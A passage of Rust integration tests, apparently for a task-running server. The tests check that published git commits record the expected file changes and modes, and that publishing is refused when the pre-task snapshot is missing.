        assert_eq!(question.contains("verified is false"), run["verified"] == false);
        assert_eq!(question.contains("other repositories: A in/, A in/x."), changed.contains("in/x"));
        let before = git(&clone, &["status", "--porcelain"]);
        let made = publish(&client, asks).await;
        let made = made["commit"].as_str().unwrap();
        assert_eq!(git(&clone, &["status", "--porcelain"]), before);
        let shown = git(&host.bare(), &["show", "-M", "--name-status", "--format=%P", made]);
        let trunk = git(&host.bare(), &["rev-parse", "trunk"]);
        let lines = shown.trim().lines().filter(|line| !line.is_empty()).map(|line| {
            let parts: Vec<_> = line.split('\t').collect();
            match parts[..] {
                [letter, from, to] => format!("{} {from} -> {to}", &letter[..1]),
                [letter, name] => format!("{letter} {name}"),
                _ => line.to_owned(),
            }
        });
        let lines: Vec<_> = lines.collect();
        let mut expected: Vec<_> = wanted.split(',').map(str::to_owned).collect();
        expected.insert(0, trunk.trim().to_owned());
        assert_eq!(sorted(lines), sorted(expected), "{commands}");
        if wanted == published {
            let modes = git(&host.bare(), &["ls-tree", made, "run", "link"]);
            assert_starts_with(&modes, "120000 ");
            assert_contains(&modes, "100755 ");
        }
        if wanted == "A v" {
            assert_eq!(git(&host.bare(), &["show", &format!("{made}:v")]), "v=2\n");
        }
    }
    // Without the initial state, the changes cannot be told from those of others.
    let clone = clone_of_a_person(&host, "unknown");
    let run = call!(client, "run_task", {"task": "RUN: echo x > n", "workspace": clone});
    std::fs::remove_dir_all(host.place.0.join(".mcp-snapshots")).unwrap();
    let asks = json!({"task_id": run["task_id"], "title": "x", "repository": host.url()});
    let refusal = "before the task is not known";
    assert_error(&client, "publish_task", asks, refusal).await;
}

fn sorted(mut lines: Vec<String>) -> Vec<String> {
    lines.sort_unstable();
    lines
}
